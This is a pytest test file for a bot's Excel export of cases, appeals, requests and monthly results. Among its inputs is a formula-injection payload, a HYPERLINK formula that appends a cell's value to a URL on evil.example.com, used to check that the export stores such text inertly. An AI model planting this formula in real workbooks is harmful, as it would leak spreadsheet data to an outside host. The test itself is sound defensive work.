"""/export at the service level on the real migrated database: cases (two registered and
acted on by the services, the rest inserted at the edges of the period), their audit
history, appeals, requests and results; the XLSX is opened with openpyxl and compared with
the database row by row, and nothing outside the period is in it."""

from __future__ import annotations

import gc
import io
import json
import os
import subprocess
import sys
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.callbacks import CaseAct
from bot.services import case_posts, cases, export, export_xlsx, months, roster
from bot.services.collector import collector_paused
from bot.services.errors import Forbidden, Invalid
from bot.settings import Settings
from bot.texts import Texts
from db.models import (
    Appeal,
    AppealState,
    AuditEntry,
    Case,
    CaseCategory,
    CaseSource,
    CaseState,
    CaseTab,
    Employee,
    MonthlyResult,
    RequestKind,
    RequestState,
    Role,
    ServiceRequest,
    WorkingGroup,
)
from tests.conftest import person

MOSCOW = ZoneInfo("Europe/Moscow")
CS, LEAD, MANAGER, OTHER = 1001, 2001, 3002, 3003
ROSTER = """full_name,role,group,position,telegram_id,username
Ольга Смирнова,cs,,Специалист КС,1001,
Андрей Лидеров,lead,Группа Юг,Главный менеджер,2001,
Мария Козлова,manager,Группа Юг,Менеджер по показам,3002,
Павел <b>Новиков</b> & Co,manager,Группа Юг,Фронт-менеджер,3003,
"""
OCTOBER = (date(2026, 10, 1), date(2026, 10, 31))
# The edges of October in Moscow (UTC+3): 01.10 00:00 is 30.09 21:00 UTC.
FIRST_IN = datetime(2026, 9, 30, 21, 0, tzinfo=UTC)
LAST_IN = datetime(2026, 10, 31, 20, 59, 59, tzinfo=UTC)
BEFORE = FIRST_IN - timedelta(seconds=1)
AFTER = LAST_IN + timedelta(seconds=1)


def local(value: datetime | None) -> datetime | None:
    return None if value is None else value.astimezone(MOSCOW).replace(tzinfo=None)


@pytest.fixture
async def filled(
    sessions: async_sessionmaker[AsyncSession], settings: Settings, texts: Texts
) -> dict[str, int]:
    """The data; returns the ids that matter."""
    async with sessions() as session:
        await roster.import_roster(session, ROSTER.encode(), "roster.csv")
        cs, lead = await person(session, CS), await person(session, LEAD)
        manager, other = await person(session, MANAGER), await person(session, OTHER)
        south = (await session.execute(select(WorkingGroup))).scalar_one()

        def draft(summary: str) -> cases.CaseDraft:
            return cases.CaseDraft(
                manager_id=manager.id,
                tab=CaseTab.GROWTH,
                category=CaseCategory.COMMUNICATION,
                source=CaseSource.MEETING,
                incident_date=cases.local_today(settings) - timedelta(days=1),
                summary=summary,
                link="https://crm.example.com/7",
            )

        kwargs = {"settings": settings, "texts": texts, "bot_username": "cs_test_bot"}
        first = await cases.register(session, cs, draft("Не уточнил бюджет клиента"), **kwargs)
        second = await cases.register(session, cs, draft("Снова не уточнил бюджет"), **kwargs)
        await cases.perform(session, lead, first.id, CaseAct.ACCEPT, settings=settings, texts=texts)
        # Moved into the period (registration stamps "now"); the history stays as written.
        await session.execute(
            update(Case).where(Case.id.in_([first.id, second.id])).values(created_at=FIRST_IN)
        )
        edge_cases = {}
        for name, moment in (("last_in", LAST_IN), ("before", BEFORE), ("after", AFTER)):
            case = Case(
                tab=CaseTab.CSI,
                category=CaseCategory.PROCESS,
                source=CaseSource.CSI,
                manager_id=other.id,
                group_id=south.id,
                author_id=None,
                incident_date=date(2026, 9, 29),
                summary=f"Кейс {name}: клиент <ждал> & ушёл",
                state=CaseState.ANALYSED,
                analysis_process="Запись на показ",
                analysis_cause="Нет свободных слотов",
                analysis_measures="Добавлены слоты",
                measures_due=date(2026, 11, 5),
                accepted_at=moment + timedelta(hours=2),
                created_at=moment,
            )
            session.add(case)
            await session.flush()
            edge_cases[name] = case.id
            session.add(
                AuditEntry(
                    actor_id=None,
                    entity="case",
                    entity_id=case.id,
                    action="submit_analysis",
                    from_state="accepted",
                    to_state="analysed",
                    comment="разбор",
                    at=moment + timedelta(hours=3),
                )
            )
        # An appeal's audit entry with the same entity id must not show up as case history.
        session.add(
            AuditEntry(
                actor_id=manager.id, entity="appeal", entity_id=first.id, action="file", at=FIRST_IN
            )
        )
        appeal_in = Appeal(
            case_id=first.id,
            filer_id=manager.id,
            reason="Бюджет был уточнён в чате",
            state=AppealState.PARTIAL,
            decided_by_id=cs.id,
            decision_comment="Частично: в чате был",
            created_at=FIRST_IN + timedelta(days=2),
            decided_at=FIRST_IN + timedelta(days=3),
        )
        appeal_out = Appeal(
            case_id=second.id, filer_id=lead.id, reason="Вне периода", created_at=AFTER
        )
        forwarding = ServiceRequest(
            kind=RequestKind.FORWARDING,
            requester_id=lead.id,
            group_id=south.id,
            fields={
                "manager_name": "Мария Козлова",
                "from_number": "1234",
                "to_number": "+79990001122",
                "date_from": "2026-10-20",
                "date_to": "2026-10-22",
                "comment": "",
            },
            state=RequestState.REJECTED,
            processor_id=cs.id,
            reject_reason="Нет доступа к АТС",
            created_at=LAST_IN,
        )
        badge = ServiceRequest(
            kind=RequestKind.BADGE,
            requester_id=manager.id,
            group_id=None,
            fields={"item": "audio", "quantity": 2, "place": "Шоурум «Юг»", "recipient": "Я"},
            state=RequestState.NEW,
            created_at=FIRST_IN,
        )
        request_out = ServiceRequest(
            kind=RequestKind.BADGE, requester_id=manager.id, fields={}, created_at=BEFORE
        )
        session.add_all([appeal_in, appeal_out, forwarding, badge, request_out])
        for month, score in ((date(2026, 9, 1), 70.0), (date(2026, 10, 1), 81.25)):
            session.add(MonthlyResult(month=month, group_id=south.id, score=score, evaluations=9))
        session.add(
            MonthlyResult(
                month=date(2026, 10, 1),
                group_id=south.id,
                manager_id=manager.id,
                score=88.5,
                evaluations=4,
            )
        )
        session.add(
            MonthlyResult(month=date(2026, 11, 1), group_id=south.id, score=90, evaluations=3)
        )
        await session.commit()
        return {
            "first": first.id,
            "second": second.id,
            **edge_cases,
            "appeal_in": appeal_in.id,
            "forwarding": forwarding.id,
            "badge": badge.id,
        }


def rows(book: object, title: str) -> list[tuple[object, ...]]:
    sheet = book[title]  # type: ignore[index]
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


async def run_export(
    sessions: async_sessionmaker[AsyncSession],
    settings: Settings,
    texts: Texts,
    start: date,
    end: date,
) -> export.ExportFile:
    async with sessions() as session:
        return await export.build(
            session, await person(session, CS), start, end, settings=settings, texts=texts
        )


async def test_the_workbook_holds_the_period_with_the_database_values(
    sessions: async_sessionmaker[AsyncSession],
    settings: Settings,
    texts: Texts,
    filled: dict[str, int],
) -> None:
    made = await run_export(sessions, settings, texts, *OCTOBER)
    assert made.filename == "cs-export-2026-10-01_2026-10-31.xlsx"
    book = load_workbook(io.BytesIO(made.data))
    assert book.sheetnames == ["Кейсы", "История кейсов", "Апелляции", "Запросы", "Итоги"]

    cases_sheet = rows(book, "Кейсы")
    header = cases_sheet[0]
    assert header[0] == "Номер"
    assert "Создан (Europe/Moscow)" in header
    assert book["Кейсы"].freeze_panes == "A2"
    async with sessions() as session:
        in_period = (
            (
                await session.execute(
                    select(Case)
                    .where(Case.created_at >= FIRST_IN, Case.created_at <= LAST_IN)
                    .order_by(Case.id)
                )
            )
            .scalars()
            .all()
        )
        assert [c.id for c in in_period] == [filled["first"], filled["second"], filled["last_in"]]
        expected = [
            (
                c.id,
                texts(case_posts.TAB_KEYS[c.tab]),
                texts(case_posts.CATEGORY_KEYS[c.category]),
                texts(case_posts.SOURCE_KEYS[c.source]),
                texts(case_posts.STATE_KEYS[c.state]),
                c.manager.full_name,
                c.group.name,
                datetime.combine(c.incident_date, datetime.min.time()),
                c.summary,
                c.link,
                "да" if c.repeated else "нет",
                c.author.full_name if c.author else None,
                local(c.created_at),
                local(c.accepted_at),
                None,
                local(c.recheck_due_at),
                c.analysis_process,
                c.analysis_cause,
                c.analysis_measures,
                datetime.combine(c.measures_due, datetime.min.time()) if c.measures_due else None,
                local(c.closed_at),
            )
            for c in in_period
        ]
        history = (
            await session.execute(
                select(AuditEntry)
                .where(
                    AuditEntry.entity == "case",
                    AuditEntry.entity_id.in_([c.id for c in in_period]),
                )
                .order_by(AuditEntry.entity_id, AuditEntry.at, AuditEntry.id)
            )
        ).scalars()
        history_expected = [
            (entry.entity_id, entry.action, entry.from_state, entry.to_state, entry.comment)
            for entry in history
        ]
        cs_name = (await person(session, CS)).full_name

    # Times to the second (the XLSX keeps no microseconds).
    def trimmed(row: tuple[object, ...]) -> tuple[object, ...]:
        return tuple(
            value.replace(microsecond=0) if isinstance(value, datetime) else value for value in row
        )

    assert [trimmed(r) for r in cases_sheet[1:]] == [trimmed(r) for r in expected]
    first_row, second_row, edge_row = cases_sheet[1:]
    assert first_row[4] == "в работе"
    assert second_row[10] == "да"  # the same error again: a repeated case
    assert edge_row[8] == "Кейс last_in: клиент <ждал> & ушёл"  # as typed, not HTML
    assert edge_row[12] == datetime(2026, 10, 31, 23, 59, 59)
    assert edge_row[11] is None

    history_sheet = rows(book, "История кейсов")
    assert history_sheet[0][1] == "Когда (Europe/Moscow)"
    assert len(history_sheet) - 1 == len(history_expected) >= 4
    assert [r[0] for r in history_sheet[1:]] == [e[0] for e in history_expected]
    assert (filled["first"], "кейс зарегистрирован", "", "новый") in [
        (r[0], r[3], r[4] or "", r[5]) for r in history_sheet[1:]
    ]
    accepted = next(r for r in history_sheet[1:] if r[3] == "взят в работу")
    assert accepted[0] == filled["first"]
    assert (accepted[4], accepted[5], accepted[2]) == ("новый", "в работе", "Андрей Лидеров")
    edge = next(r for r in history_sheet[1:] if r[0] == filled["last_in"])
    assert edge[1:] == (
        datetime(2026, 11, 1, 2, 59, 59),
        "бот",
        "разбор отправлен",
        "в работе",
        "разбор на проверке",
        "разбор",
    )
    assert all(r[3] != "file" for r in history_sheet[1:])

    appeals_sheet = rows(book, "Апелляции")
    assert appeals_sheet[1:] == [
        (
            filled["appeal_in"],
            filled["first"],
            "Мария Козлова",
            "Бюджет был уточнён в чате",
            "принята частично",
            cs_name,
            "Частично: в чате был",
            datetime(2026, 10, 3, 0, 0),
            datetime(2026, 10, 4, 0, 0),
        )
    ]

    requests_sheet = rows(book, "Запросы")
    assert [r[:8] for r in requests_sheet[1:]] == [
        (
            f"З-{filled['forwarding']}",
            "Переадресация",
            "Андрей Лидеров",
            "Группа Юг",
            "отклонён",
            cs_name,
            "Нет доступа к АТС",
            datetime(2026, 10, 31, 23, 59, 59),
        ),
        (
            f"З-{filled['badge']}",
            "Бейдж",
            "Мария Козлова",
            None,
            "новый",
            None,
            None,
            datetime(2026, 10, 1, 0, 0),
        ),
    ]
    forwarding_fields = str(requests_sheet[1][8])
    assert "Что переадресовать: 1234" in forwarding_fields
    assert "Даты: 20.10.2026 — 22.10.2026" in forwarding_fields
    assert "Шоурум «Юг»" in str(requests_sheet[2][8])
    assert "Что нужно: аудиобейдж" in str(requests_sheet[2][8])

    results_sheet = rows(book, "Итоги")
    assert results_sheet[0] == ("Месяц", "Рабочая группа", "Менеджер", "Оценка, %", "Оценок")
    assert results_sheet[1:] == [
        (datetime(2026, 10, 1), "Группа Юг", None, 81.25, 9),
        (datetime(2026, 10, 1), "Группа Юг", "Мария Козлова", 88.5, 4),
    ]

    assert made.counts == {
        "cases": 3,
        "history": len(history_expected),
        "appeals": 1,
        "requests": 2,
        "results": 2,
    }
    text = export.caption(made, texts)
    assert "01.10.2026 — 31.10.2026" in text
    assert "Кейсы: 3" in text
    assert "Итоги: 2" in text
    assert len(text) <= 1024


async def test_results_by_overlapping_month_and_an_empty_period(
    sessions: async_sessionmaker[AsyncSession],
    settings: Settings,
    texts: Texts,
    filled: dict[str, int],
) -> None:
    made = await run_export(sessions, settings, texts, date(2026, 10, 15), date(2026, 11, 2))
    book = load_workbook(io.BytesIO(made.data))
    assert [r[0] for r in rows(book, "Итоги")[1:]] == [
        datetime(2026, 10, 1),
        datetime(2026, 10, 1),
        datetime(2026, 11, 1),
    ]
    # Only the late edge case (31.10 23:59 Moscow) and the one a second after it.
    assert [r[0] for r in rows(book, "Кейсы")[1:]] == [filled["last_in"], filled["after"]]

    empty = await run_export(sessions, settings, texts, date(2025, 1, 1), date(2025, 1, 31))
    book = load_workbook(io.BytesIO(empty.data))
    for title in book.sheetnames:
        assert len(rows(book, title)) == 1  # the header only
    assert set(empty.counts.values()) == {0}
    assert "нет записей" in export.caption(empty, texts)


async def test_only_cs_exports(
    sessions: async_sessionmaker[AsyncSession],
    settings: Settings,
    texts: Texts,
    filled: dict[str, int],
) -> None:
    async with sessions() as session:
        for who in (LEAD, MANAGER):
            with pytest.raises(Forbidden):
                await export.build(
                    session, await person(session, who), *OCTOBER, settings=settings, texts=texts
                )
        with pytest.raises(Forbidden):
            export.check_can_export(None)


def test_periods() -> None:
    today = date(2026, 12, 2)
    assert export.preset_period(export.Preset.THIS_MONTH, today) == (
        date(2026, 12, 1),
        date(2026, 12, 31),
    )
    assert export.preset_period(export.Preset.LAST_MONTH, today) == (
        date(2026, 11, 1),
        date(2026, 11, 30),
    )
    assert export.preset_period(export.Preset.LAST_MONTH, date(2026, 1, 9)) == (
        date(2025, 12, 1),
        date(2025, 12, 31),
    )
    assert export.preset_period(export.Preset.LAST_3_MONTHS, today) == (
        date(2026, 10, 1),
        date(2026, 12, 31),
    )
    assert export.preset_period(export.Preset.THIS_YEAR, today) == (date(2026, 1, 1), today)
    assert export.parse_period("01.10.2026–31.10.2026") == OCTOBER
    assert export.parse_period(" 1.10.2026 - 31.10.2026 ") == OCTOBER
    assert export.parse_period("01.10.2026—01.10.2026") == (date(2026, 10, 1), date(2026, 10, 1))
    for wrong in ("октябрь", "01.10.2026", "31.02.2026–01.03.2026", "2026-10-01–2026-10-31"):
        with pytest.raises(Invalid) as refused:
            export.parse_period(wrong)
        assert refused.value.key == "export-error-period"
    with pytest.raises(Invalid) as refused:
        export.parse_period("31.10.2026–01.10.2026")
    assert refused.value.key == "export-error-order"
    assert months.utc_bounds(*OCTOBER, MOSCOW) == (FIRST_IN, AFTER)


async def test_all_time_starts_at_the_earliest_record(
    sessions: async_sessionmaker[AsyncSession],
    settings: Settings,
    filled: dict[str, int],
) -> None:
    async with sessions() as session:
        start, end = await export.resolve(session, export.Preset.ALL_TIME, settings)
    assert start == date(2026, 9, 1)  # the September results
    assert end == cases.local_today(settings)


async def test_text_that_looks_like_a_formula_or_holds_control_characters_stays_text(
    sessions: async_sessionmaker[AsyncSession],
    settings: Settings,
    texts: Texts,
    filled: dict[str, int],
) -> None:
    formula = '=HYPERLINK("https://evil.example.com/?"&A1,"Открыть")'
    async with sessions() as session:
        other = await person(session, OTHER)
        south = (await session.execute(select(WorkingGroup))).scalar_one()
        for summary in (formula, "Клиент\x0bждал\x1f ответа", "=1+2"):
            session.add(
                Case(
                    tab=CaseTab.CASES,
                    category=CaseCategory.PROCESS,
                    source=CaseSource.CALL,
                    manager_id=other.id,
                    group_id=south.id,
                    incident_date=date(2026, 10, 2),
                    summary=summary,
                    state=CaseState.NEW,
                    created_at=FIRST_IN + timedelta(days=3),
                )
            )
        await session.commit()
    made = await run_export(sessions, settings, texts, *OCTOBER)
    book = load_workbook(io.BytesIO(made.data))
    sheet = book["Кейсы"]
    column = rows(book, "Кейсы")[0].index("Суть") + 1
    summaries = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    cells = {cell.value: cell.data_type for cell in summaries}
    # Stored as text: Excel shows it and never runs it; the value is the database's.
    assert cells[formula] == "s"
    assert cells["=1+2"] == "s"
    # A character a workbook cannot hold is left out, not the whole export.
    assert cells["Клиентждал ответа"] == "s"


# --- the same cells as before the streaming writer ----------------------------------------
# A small data set with every value the sheets know (every state, action, kind, the empty and
# the odd: a formula-like text, control characters, spaces at the edges, microseconds, an
# unknown state or field), fixed ids and times. EXPECTED_CELLS holds what the workbook held
# for it when it was written cell by cell with openpyxl (commit 7115c47's export.py): every
# cell's value and type, number format, boldness and alignment; the sheets' names, column
# widths and frozen header. Regenerate it only for an intended change of the file.
EXPECTED_CELLS = Path(__file__).parent / "data" / "export_cells.json"
NOVEMBER_START = datetime(2026, 10, 31, 21, 0, tzinfo=UTC)


async def fill_every_kind_of_value(session: AsyncSession) -> None:
    people = [
        (101, "Ольга Смирнова", Role.CS),
        (102, "Андрей Лидеров", Role.LEAD),
        (103, "Мария Козлова", Role.MANAGER),
        (104, "Павел <b>Новиков</b> & Co", Role.MANAGER),
        (105, "  Иван Пробелов ", Role.MANAGER),
    ]
    for number, name, role in people:
        session.add(Employee(id=number, full_name=name, role=role, telegram_id=90_000 + number))
    session.add_all(
        [WorkingGroup(id=11, name="Группа Юг"), WorkingGroup(id=12, name="Группа «Север» & Co")]
    )
    await session.flush()
    summaries = [
        "Не уточнил бюджет клиента",
        "=1+2",
        '=HYPERLINK("https://evil.example.com/?"&A1,"Открыть")',
        "Клиент\x0bждал\x1f ответа\x01",
        "  пробелы по краям  ",
        "строка 1\nстрока 2\r\nстрока 3\tтаб",
        "00123",
        "Эмодзи 😀 и <теги> & «кавычки» \"двойные\" 'одинарные'",
        "Длинный текст. " * 300,
    ]
    tabs, categories, sources = list(CaseTab), list(CaseCategory), list(CaseSource)
    states = [*CaseState, "legacy"]
    for index, state in enumerate(states):
        number = 201 + index
        created = FIRST_IN + timedelta(days=index * 3, hours=index, microseconds=index * 123_457)
        full = index % 2 == 0
        session.add(
            Case(
                id=number,
                tab=tabs[index % len(tabs)],
                category=categories[index % len(categories)],
                source=sources[index % len(sources)],
                manager_id=103 + index % 3,
                group_id=11 + index % 2,
                author_id=101 if full else None,
                incident_date=date(2026, 9, 20) + timedelta(days=index),
                summary=summaries[index % len(summaries)],
                link="https://crm.example.com/deal?id=7&x=<1>" if full else None,
                state=state,
                repeated=index % 3 == 1,
                accepted_at=created + timedelta(hours=5, seconds=30) if full else None,
                briefing_at=created + timedelta(days=1, minutes=7) if full else None,
                recheck_due_at=created + timedelta(days=14) if full else None,
                analysis_process="Запись на показ" if full else None,
                analysis_cause="" if full else None,
                analysis_measures="=SUM(A1:A2)" if full else None,
                measures_due=date(2026, 11, 5) if full else None,
                closed_at=created + timedelta(days=20, microseconds=999_999) if full else None,
                created_at=created,
            )
        )
    session.add(
        Case(
            id=299,
            tab=CaseTab.CASES,
            category=CaseCategory.PROCESS,
            source=CaseSource.CALL,
            manager_id=103,
            group_id=11,
            incident_date=date(2026, 11, 1),
            summary="Вне периода",
            created_at=NOVEMBER_START,
        )
    )
    await session.flush()
    actions = [*export.ACTION_KEYS, "mystery"]
    history_states: list[str | None] = [None, *CaseState, "legacy"]
    for index, action in enumerate(actions):
        session.add(
            AuditEntry(
                id=301 + index,
                at=FIRST_IN + timedelta(days=index, seconds=index, microseconds=index * 1000),
                actor_id=None if index % 4 == 0 else 101 + index % 5,
                entity="case",
                entity_id=201 + index % len(states),
                action=action,
                from_state=history_states[index % len(history_states)],
                to_state=history_states[(index + 1) % len(history_states)],
                comment=["", "разбор", "=2*3", "  с пробелом"][index % 4],
            )
        )
    session.add_all(
        [
            AuditEntry(
                id=350, at=FIRST_IN, actor_id=103, entity="appeal", entity_id=201, action="file"
            ),
            AuditEntry(id=351, at=NOVEMBER_START, entity="case", entity_id=299, action="register"),
        ]
    )
    for index, state in enumerate(AppealState):
        decided = state != AppealState.NEW
        created = FIRST_IN + timedelta(days=index + 1, microseconds=index * 250_000)
        session.add(
            Appeal(
                id=401 + index,
                case_id=201 + index,
                filer_id=103 + index % 3,
                reason=["Бюджет был уточнён в чате", "=A1", "  "][index % 3],
                state=state,
                decided_by_id=101 if decided else None,
                decision_comment="Частично: в чате был" if decided else None,
                created_at=created,
                decided_at=created + timedelta(days=2, hours=3) if decided else None,
            )
        )
    fields: list[tuple[RequestKind, dict[str, Any]]] = [
        (
            RequestKind.FORWARDING,
            {
                "manager_name": "Мария Козлова",
                "from_number": "1234",
                "to_number": "+79990001122",
                "date_from": "2026-10-20",
                "date_to": "2026-10-22",
                "comment": "",
            },
        ),
        (
            RequestKind.STAFFING,
            {
                "change": "new",
                "full_name": "Пётр <Новый>",
                "group_name": "Группа Юг",
                "effective_date": "2026-10-12",
                "attestation_date": "2026-11-12",
                "comment": "=срочно",
            },
        ),
        (
            RequestKind.STAFFING,
            {"change": "dismissal", "full_name": "Кто-то", "effective_date": "2026-10-30"},
        ),
        (
            RequestKind.BADGE,
            {"item": "audio", "quantity": 2, "place": "Шоурум «Юг»", "recipient": "Я"},
        ),
        (RequestKind.BADGE, {"item": "cover", "quantity": 1}),
        (RequestKind.FORWARDING, {"unknown_field": "старые данные", "date_from": "не дата"}),
    ]
    request_states = list(RequestState)
    for index, (kind, values) in enumerate(fields):
        state = request_states[index % len(request_states)]
        session.add(
            ServiceRequest(
                id=501 + index,
                kind=kind,
                requester_id=102 + index % 3,
                group_id=11 + index % 2 if index % 3 else None,
                fields=values,
                state=state,
                processor_id=101 if state != RequestState.NEW else None,
                reject_reason="Нет доступа к АТС" if state == RequestState.REJECTED else None,
                created_at=LAST_IN - timedelta(days=index, microseconds=index * 10),
            )
        )
    results = [
        (date(2026, 9, 1), 11, None, 70.0, 9),
        (date(2026, 10, 1), 11, None, 81.25, 9),
        (date(2026, 10, 1), 12, 103, 66.66666666666667, 4),
        (date(2026, 10, 1), 12, 104, 0.1 + 0.2, 1),
        (date(2026, 10, 1), 12, 105, 100, 0),
        (date(2026, 11, 1), 11, None, 90, 3),
    ]
    for index, (month, group, manager, score, evaluations) in enumerate(results):
        session.add(
            MonthlyResult(
                id=601 + index,
                month=month,
                group_id=group,
                manager_id=manager,
                score=score,
                evaluations=evaluations,
            )
        )
    await session.commit()


def workbook_cells(data: bytes) -> dict[str, Any]:
    """What a reader of the file sees: per sheet its widths, frozen pane and every cell that
    holds a value or a style, with the value's type, number format, boldness and alignment."""
    book = load_workbook(io.BytesIO(data))
    sheets: dict[str, Any] = {}
    for sheet in book.worksheets:
        cells = []
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None and not cell.has_style:
                    continue
                value = cell.value
                shown = value.isoformat() if isinstance(value, datetime) else value
                cells.append(
                    [
                        cell.coordinate,
                        type(value).__name__,
                        shown,
                        cell.data_type,
                        cell.number_format,
                        bool(cell.font.b),
                        bool(cell.alignment.wrap_text),
                        cell.alignment.vertical,
                    ]
                )
        sheets[sheet.title] = {
            "freeze_panes": sheet.freeze_panes,
            "widths": {  # per column (a file may give adjacent columns one range)
                get_column_letter(column): dimension.width
                for dimension in sheet.column_dimensions.values()
                if dimension.customWidth
                for column in range(dimension.min, dimension.max + 1)
            },
            "max_row": sheet.max_row,
            "max_column": sheet.max_column,
            "cells": cells,
        }
    return {"sheetnames": book.sheetnames, "sheets": sheets}


def cells_json(found: dict[str, Any]) -> str:
    """`found` as JSON with one cell a line (a diff of the file reads cell by cell)."""
    lines = ["{", f' "sheetnames": {json.dumps(found["sheetnames"], ensure_ascii=False)},']
    lines.append(' "sheets": {')
    for number, (title, sheet) in enumerate(found["sheets"].items()):
        lines.append(f"  {json.dumps(title, ensure_ascii=False)}: {{")
        for key in ("freeze_panes", "widths", "max_row", "max_column"):
            lines.append(f"   {json.dumps(key)}: {json.dumps(sheet[key])},")
        cells = [f"    {json.dumps(cell, ensure_ascii=False)}" for cell in sheet["cells"]]
        lines.append('   "cells": [')
        lines.append(",\n".join(cells))
        lines.append("   ]")
        lines.append("  }" + ("," if number < len(found["sheets"]) - 1 else ""))
    lines.extend([" }", "}"])
    return "\n".join(lines) + "\n"


async def test_the_workbook_holds_the_same_cells_as_the_cell_by_cell_writer(
    sessions: async_sessionmaker[AsyncSession], settings: Settings, texts: Texts
) -> None:
    async with sessions() as session:
        await fill_every_kind_of_value(session)
        session.add(Employee(id=100, full_name="Экспортёр", role=Role.CS, telegram_id=CS))
        await session.commit()
    made = await run_export(sessions, settings, texts, *OCTOBER)
    found = workbook_cells(made.data)
    if os.environ.get("EXPORT_CELLS_WRITE"):  # how EXPECTED_CELLS was made
        EXPECTED_CELLS.write_text(cells_json(found))
    expected = json.loads(EXPECTED_CELLS.read_text())
    assert found["sheetnames"] == expected["sheetnames"]
    for title, sheet in expected["sheets"].items():
        for key in ("freeze_panes", "widths", "max_row", "max_column"):
            assert found["sheets"][title][key] == sheet[key], (title, key)
        for found_cell, expected_cell in zip(
            found["sheets"][title]["cells"], sheet["cells"], strict=True
        ):
            assert found_cell == expected_cell, title
    assert made.counts == {"cases": 9, "history": 11, "appeals": 4, "requests": 6, "results": 4}


def test_the_bot_starts_without_the_workbook_writer() -> None:
    """XlsxWriter (which makes the package) comes in with the first export, as openpyxl did."""
    code = "import sys, bot.app; print('xlsxwriter' in sys.modules, 'openpyxl' in sys.modules)"
    loaded = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    assert loaded.stdout.strip().splitlines()[-1] == "False False"


def test_local_times_across_a_change_of_offset() -> None:
    """The export's naive UTC → local serial day (an offset looked up once per UTC hour, SQLite's
    text of a time read by position) gives what astimezone and excel_serial give, for the text
    and for a datetime (PostgreSQL's), also in the hours when a zone changes its clocks
    (Berlin, Lord Howe's half hour, 2026) and past local midnight in a zone of a 45-minute
    offset (Kathmandu)."""
    for zone in ("Europe/Berlin", "Europe/Moscow", "Australia/Lord_Howe", "Asia/Kathmandu"):
        tz = ZoneInfo(zone)
        serials = export_xlsx.LocalSerials(tz)
        moment = datetime(2026, 1, 1, tzinfo=UTC)
        while moment.year == 2026:
            naive_utc = moment.replace(tzinfo=None)
            expected = export_xlsx.excel_serial(moment.astimezone(tz).replace(tzinfo=None))
            stored = f"{naive_utc:%Y-%m-%d %H:%M:%S.%f}"  # as SQLite holds it
            assert serials(stored) == expected, (zone, stored)
            assert serials(naive_utc) == expected, (zone, moment)
            moment += timedelta(minutes=7, microseconds=1)
    berlin = export_xlsx.LocalSerials(ZoneInfo("Europe/Berlin"))
    # A time stored without its microseconds (not by SQLAlchemy) is read too.
    changed = datetime(2026, 3, 29, 1, 30, tzinfo=UTC)  # 03:30 CEST, after the change
    assert berlin("2026-03-29 01:30:00") == export_xlsx.excel_serial(datetime(2026, 3, 29, 3, 30))
    assert berlin(changed.replace(tzinfo=None)) == berlin("2026-03-29 01:30:00.000000")


def test_each_kind_of_cell_as_the_reference_writes_it() -> None:
    """The row writer made for a sheet's columns gives, cell by cell, what the plain
    functions give: texts escaped (only when they need it), characters a workbook cannot hold
    left out, spaces at the edges kept, a formula-like text a text; names from the table, the
    others as stored or the fixed text; days and times as serial days; None and "" no cell."""
    texts = [
        "просто текст",
        "Павел <b>Новиков</b> & Co",
        "Клиент\x0bждал\x1f ответа\x01",
        "\x01",
        "  пробелы по краям ",
        "\tтаб",
        "строка 1\nстрока 2\r\n",
        '=HYPERLINK("https://evil.example.com/?"&A1,"Открыть")',
        "=1+2",
        "\u00a0неразрывный",
    ]
    columns = [
        export_xlsx.ColumnSpec(export_xlsx.NUMBER),
        export_xlsx.ColumnSpec(export_xlsx.TEXT),
        export_xlsx.ColumnSpec(export_xlsx.NAME, names={"new": "новый", "odd": "<&>"}),
        export_xlsx.ColumnSpec(export_xlsx.NAME, names={None: "бот"}, other="запись"),
        export_xlsx.ColumnSpec(export_xlsx.DAY, number_format="DD.MM.YYYY"),
        export_xlsx.ColumnSpec(export_xlsx.MOMENT, number_format="DD.MM.YYYY HH:MM"),
    ]
    styles = ["", "", "", "", ' s="1"', ' s="2"']
    moscow = export_xlsx.LocalSerials(MOSCOW)
    write = export_xlsx._row_writer(columns, styles, moscow)
    rows: list[tuple[Any, ...]] = [
        (7, text, text, text, "2026-03-29", "2026-03-29 00:30:00.000001") for text in texts
    ]
    rows += [
        (0.1 + 0.2, None, "new", None, date(2026, 3, 29), datetime(2026, 3, 29, 0, 30)),
        (None, "", "odd", "", None, None),
        (10**15, "x", "", "y", "1900-02-28", "2026-10-24 21:00:00.000000"),
    ]
    expected_rows = []
    for number, (count, free, name, action, day, moment) in enumerate(rows, start=2):
        shown_name = {"new": "новый", "odd": "<&>"}.get(name, name)
        shown_action = "бот" if action is None else "запись"
        day_value = date.fromisoformat(day) if isinstance(day, str) else day
        cells = [
            None if count is None else f'<c r="A{number}"><v>{count:.16g}</v></c>',
            f'<c r="B{number}" t="inlineStr"><is>{export_xlsx.text_xml(free)}</is></c>'
            if free
            else None,
            f'<c r="C{number}" t="inlineStr"><is>{export_xlsx.text_xml(shown_name)}</is></c>'
            if shown_name
            else None,
            f'<c r="D{number}" t="inlineStr"><is>{export_xlsx.text_xml(shown_action)}</is></c>',
            None
            if day_value is None
            else f'<c r="E{number}" s="1"><v>{export_xlsx.excel_serial(day_value)}</v></c>',
            None if moment is None else f'<c r="F{number}" s="2"><v>{moscow(moment)}</v></c>',
        ]
        expected_rows.append(
            f'<row r="{number}">' + "".join(cell for cell in cells if cell) + "</row>"
        )
    assert write(rows, 2) == "".join(expected_rows)
    # The escaping itself, as the openpyxl writer did it.
    assert export_xlsx.text_xml("Клиент\x0bждал\x1f ответа\x01") == "<t>Клиентждал ответа</t>"
    assert export_xlsx.text_xml(" <a> & b") == '<t xml:space="preserve"> &lt;a&gt; &amp; b</t>'
    assert export_xlsx.excel_serial(date(1900, 2, 28)) == "59"  # Excel's 29.02.1900 skipped
    assert moscow("2026-03-29 00:30:00.000001") == export_xlsx.excel_serial(
        datetime(2026, 3, 29, 3, 30, 0, 1)
    )


def test_the_collector_is_paused_while_a_workbook_is_made_and_on_again_after() -> None:
    assert gc.isenabled()
    with collector_paused():
        assert not gc.isenabled()
        with collector_paused():  # a second export meanwhile
            assert not gc.isenabled()
        assert not gc.isenabled()  # the second one leaves it as it found it
    assert gc.isenabled()
    with pytest.raises(RuntimeError, match="failed"), collector_paused():
        raise RuntimeError("the export failed")
    assert gc.isenabled()
